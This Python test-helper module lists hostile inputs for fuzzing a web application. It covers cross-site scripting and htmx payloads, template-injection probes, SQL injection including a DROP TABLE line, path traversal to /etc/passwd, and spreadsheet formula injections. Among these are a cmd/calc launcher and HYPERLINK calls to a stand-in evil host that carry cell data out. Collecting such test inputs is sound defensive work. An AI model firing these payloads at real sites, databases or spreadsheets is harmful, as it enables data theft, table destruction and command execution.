"""What somebody might type, or have a program send, that is not what was asked for."""

import zlib
from collections.abc import Sequence

MARK = "x7x"  # stands in each text that would run somewhere, so that it is found again

NUL = "nul\x00byte"  # PostgreSQL takes none
SCRIPTS = (
    f"<script>alert('{MARK}')</script>",
    f"</textarea><script>alert('{MARK}')</script>",
    f"</script><script>alert('{MARK}')</script>",
    f"\"><img src=x onerror=alert('{MARK}')>",
    f"' autofocus onfocus='alert(`{MARK}`)",
    f"<svg onload=alert('{MARK}')>",
    f"<svg><animate onbegin=alert('{MARK}') attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.alert(`{MARK}`)</script>'>",
    f"<details open ontoggle=alert('{MARK}')>",
    f"<body onload=alert('{MARK}')>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{MARK}')>",
    f"<a href=\"javascript:alert('{MARK}')\">x</a>",
    f"javascript:alert('{MARK}')",
    f"JaVaScRiPt:alert('{MARK}')",
    f"java\tscript:alert('{MARK}')",
    f"data:text/html,<script>alert('{MARK}')</script>",
    f"vbscript:msgbox('{MARK}')",
    f"<base href='https://evil.example.org/{MARK}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:alert(`{MARK}`)'>",
    f"<form action='https://evil.example.org/{MARK}'><button>go</button></form>",
    f"<link rel=stylesheet href='https://evil.example.org/{MARK}.css'>",
    f"<style>*{{background:url(https://evil.example.org/{MARK})}}</style>",
    f"<div hx-get='/{MARK}' hx-trigger='load'>x</div>",
    f"<div data-hx-on:load=\"alert('{MARK}')\">x</div>",
    f"<button hx-on:click='alert(`{MARK}`)'>x</button>",
    f"<!--><img src=x onerror=alert('{MARK}')>-->",
    f"\u003cimg src=x onerror=alert('{MARK}')\u003e",
    f"&lt;script&gt;alert('{MARK}')&lt;/script&gt;",
    f"%3Cscript%3Ealert('{MARK}')%3C/script%3E",
    f"＜script＞alert('{MARK}')＜/script＞",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{% load static %}",
    "{{ request.user.password }}",
    "${7*7}",
    "#{7*7}",
    "%(state)s %s %d",
    "{0}",
)
STATEMENTS = (
    "' OR '1'='1",
    "1; DROP TABLE accounts_user; --",
    "') UNION SELECT 1,2,3 --",
    "\\'; SELECT pg_sleep(9) --",
)
PATHS = (
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd%00.png",
    "file:///etc/passwd",
    "//evil.example.org",
)
FORMULAS = (
    '=HYPERLINK("https://evil.example.org")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＠SUM(1)",
    "a;=1+1",
    'a";=1+1',
    'a;"=1+1',
    "a\t=1+1",
    "a\r\n  @SUM(1)",
    "a;-1+cmd|' /C calc'!A0",
    "a; - cmd|' /C calc'!A0",
    'a;- HYPERLINK("https://evil.example.org"&A1)',
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b +A1",
    "\x0b=1+1",
)
LETTERS = (
    "line\r\nSet-Cookie: a=b",
    NUL,
    "right to left \u202e gnp.exe",
    "\ufeff\u200b\u2028\u2029",
    "👩‍👩‍👧‍👦 é e\u0301 日本 العربية",
    "a" * 1_000_000,
    "\x1b[31m\x07\x08",
    "ﷺ" * 500,
)
NUMBERS = ("-1", "0", "99999999999999999999", "1e309", "NaN", "٣", "1.5", "0x10", "true", "null", "[]", "{}", " ")
DAYS = ("0000-00-00", "9999-12-31", "2026-02-30", "-1-01-01", "10000-01-01")
BYTES = (b"\xed\xa0\x80", b"\xff\xfe", b"\xc0\xaf")  # half a pair, and what is no UTF-8

TEXTS = SCRIPTS + TEMPLATES + STATEMENTS + PATHS + FORMULAS + LETTERS + NUMBERS + DAYS + BYTES


def some(key: str, count: int) -> list[str | bytes]:
    """A few of them, others for each key and always the same."""
    start = zlib.crc32(key.encode())
    return [TEXTS[(start + 17 * number) % len(TEXTS)] for number in range(count)]


def some_of(key: str, few: int, percent: int) -> Sequence[str | bytes]:
    """So many of a hundred; when none is said, a few and NUL, which PostgreSQL refuses."""
    if percent >= 100:
        return TEXTS
    return some(key, -(-len(TEXTS) * percent // 100)) if percent else [NUL, *some(key, few)]
